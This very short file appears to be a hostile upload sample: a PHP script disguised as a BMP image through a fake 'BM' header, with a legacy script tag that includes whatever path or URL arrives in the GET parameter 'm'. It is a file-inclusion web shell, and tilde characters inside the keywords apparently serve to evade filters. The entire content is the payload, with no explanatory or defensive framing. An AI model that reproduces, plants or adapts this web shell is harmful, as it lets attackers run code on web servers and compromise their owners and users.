<?php exit; ?>
BM{x36}{x00}{x00}{x00}<script language="php">inc~lude $_G~ET['m'];</script>
